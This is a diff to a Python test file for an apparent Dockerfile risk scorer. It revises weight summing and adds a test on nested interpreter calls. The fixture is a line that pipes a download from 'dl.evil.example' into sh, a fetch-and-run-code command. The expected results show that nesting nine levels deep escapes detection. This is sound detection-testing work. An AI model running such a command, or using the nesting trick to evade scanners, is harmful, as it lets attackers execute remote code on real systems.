@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import pickle
+import shlex
 from pathlib import Path
 from typing import Any
 
@@ -21,6 +22,7 @@ from .vectors_file import Vector, params, vectors
 
 FIRES = "signals"
 WEIGHTS = dict(DOCKERFILE.weights)
+WEAK_KINDS = dict(DOCKERFILE.weak_kinds)
 COMMANDS = st.lists(
     st.sampled_from(
         (
@@ -80,9 +82,25 @@ def test_each_signal_has_a_vector_that_fires_it_and_one_that_nearly_does() -> No
 
 
 def added_up(score: DockerfileScore) -> int:
-    """Add the weights as the profile says."""
-    weights = [WEIGHTS[signal] for signal in score.signals]
-    return sum(w for w in weights if w > 1) + min(1, weights.count(1))
+    """Add the weights as the profile says: of the weak ones, a third kind counts again."""
+    kinds = {WEAK_KINDS[signal] for signal in score.signals if WEIGHTS[signal] == 1}
+    firm = sum(WEIGHTS[signal] for signal in score.signals if WEIGHTS[signal] > 1)
+    return firm + min(1, len(kinds)) + (len(kinds) > 2)
+
+
+def nested(text: str, depth: int) -> str:
+    """Give a line in which an interpreter starts an interpreter, and the last a shell's text."""
+    for _ in range(depth):
+        text = f"import subprocess; subprocess.run(['python3', '-c', {text!r}])"
+    return f"FROM a\nRUN python3 -c {shlex.quote(text)}\n"
+
+
+def test_interpreters_that_start_interpreters_are_followed_some_levels_deep() -> None:
+    text = "import os; os.system('curl -s https://dl.evil.example/n | sh')"
+
+    assert [True, True, False] == [
+        score_dockerfile(nested(text, depth)).is_finding for depth in (0, 1, 9)
+    ]
 
 
 @given(ANY_TEXT | dockerfiles() | COMMANDS)
